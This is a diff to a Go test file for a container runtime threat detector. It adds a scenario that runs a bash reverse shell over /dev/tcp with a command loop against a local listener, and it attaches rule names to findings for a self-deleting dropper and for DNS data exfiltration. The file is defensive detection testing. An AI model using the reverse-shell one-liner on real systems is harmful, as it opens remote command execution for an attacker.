@@ -62,6 +62,18 @@ func scenarios(malware string) []scenario {
 			wants: []want{{Type: "Execution:Runtime/ReverseShell", Exe: []string{"/ash"}}},
 		},
 		{
+			name: "command-loop reverse shell over bash's /dev/tcp: only each command's stdout goes to the socket",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				addr, out := tcpListener(t, "id\nexit\n")
+				host, port, _ := net.SplitHostPort(addr)
+				run(t, "/bin/bash", "-c", fmt.Sprintf("exec 5<>/dev/tcp/%s/%s; while read -r line <&5; do $line >&5; done", host, port))
+				if got := <-out; !strings.Contains(got, "uid=") {
+					t.Logf("reverse shell output: %q", got)
+				}
+			},
+			wants: []want{{Type: "Execution:Runtime/ReverseShell", Exe: []string{"/id"}, Rule: "Command output sent to a network connection"}},
+		},
+		{
 			name: "command-loop reverse shell: perl -e reads commands from a socket and runs them in backticks",
 			run: func(t *testing.T, e *env, _ *containerRun) {
 				// A plain command: perl runs it without a shell.
@@ -189,7 +201,7 @@ while True:
 					t.Error("the dropper is still on disk")
 				}
 			},
-			wants: []want{{Type: "DefenseEvasion:Runtime/SelfDeletingExecutable", Exe: []string{"/kdevtmpfsi"}}},
+			wants: []want{{Type: "DefenseEvasion:Runtime/SelfDeletingExecutable", Exe: []string{"/kdevtmpfsi"}, Rule: "Program deleted its own executable"}},
 		},
 		{
 			name:      "environment of the container's pid 1 read from /proc",
@@ -216,7 +228,7 @@ while True:
 				}
 				run(t, "/bin/sh", "-c", fmt.Sprintf("for n in %s; do %s dns $n %s > /dev/null; done", strings.Join(chunks, " "), e.attacker, e.dns))
 			},
-			wants: []want{{Type: "Trojan:Runtime/DNSDataExfiltration", Exe: []string{"/attacker"}}},
+			wants: []want{{Type: "Trojan:Runtime/DNSDataExfiltration", Exe: []string{"/attacker"}, Rule: "DNS tunnel to one domain"}},
 		},
 		{
 			name: "execution of a deleted file",
